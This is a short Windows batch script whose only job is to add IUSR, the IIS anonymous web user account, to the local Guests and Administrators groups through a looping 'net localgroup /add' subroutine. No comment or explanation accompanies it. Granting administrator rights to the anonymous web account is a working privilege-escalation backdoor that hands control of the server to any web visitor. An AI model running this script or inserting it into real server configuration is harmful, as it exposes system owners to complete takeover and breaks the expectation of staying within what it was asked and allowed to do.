@echo off
call :grant Guests IUSR Administrators IUSR
exit /b 0
:grant
if "%~1"=="" goto :eof
net localgroup "%~1" "%~2" /add
shift
shift
goto grant
